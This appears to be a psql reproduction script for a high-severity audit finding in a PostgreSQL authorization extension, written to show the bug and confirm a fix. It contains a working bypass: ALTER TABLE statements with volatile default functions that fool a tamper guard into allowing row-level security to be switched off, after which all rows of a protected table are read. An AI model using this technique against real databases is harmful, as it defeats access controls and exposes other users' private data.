-- Finding 3 (HIGH): the tamper guard compares the breaches at the end of a DDL command with
-- those recorded at its start. Any role may call authz.remember_protection_breaches(), and a
-- volatile default that ALTER TABLE evaluates after its catalog changes (or nested DDL, whose
-- own start trigger records again) makes the new breach look "already there".
-- main: both ALTERs pass; secret ends with RLS off; as nobody the owner reads every row.
-- fixed: both refused (2BP01): one record per client statement.
\ir setup.sql
GRANT repro3_app TO repro3_dba;
SET ROLE repro3_app;
CREATE TABLE secret (id integer PRIMARY KEY, owner_id integer NOT NULL, body text);
INSERT INTO secret VALUES (1, 1, 'ann''s'), (3, 3, 'bob''s');
CREATE TABLE scratch (id integer);
RESET ROLE;
SET ROLE repro3_dba;
SELECT length(authz.protect('secret', '{"model": "blog.Secret", "owner": {"column": "owner_id"}}')) > 0 AS secret_protected;
RESET ROLE;
REVOKE repro3_app FROM repro3_dba;
SET ROLE repro3_app;
ALTER TABLE secret DISABLE ROW LEVEL SECURITY;   -- refused, as it should be
CREATE FUNCTION record_again() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN PERFORM authz.remember_protection_breaches(); RETURN 0; END $$;
CREATE FUNCTION nested_ddl() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN ALTER TABLE public.scratch ADD COLUMN IF NOT EXISTS x integer; RETURN 0; END $$;
ALTER TABLE secret NO FORCE ROW LEVEL SECURITY, ADD COLUMN z integer DEFAULT nested_ddl();
ALTER TABLE secret DISABLE ROW LEVEL SECURITY, ADD COLUMN y integer DEFAULT record_again();
RESET ROLE;
SELECT relrowsecurity, relforcerowsecurity FROM pg_class WHERE oid = 'secret'::regclass;
SET ROLE repro3_app;
SELECT id, owner_id, body FROM secret;
RESET ROLE;
\ir teardown.sql
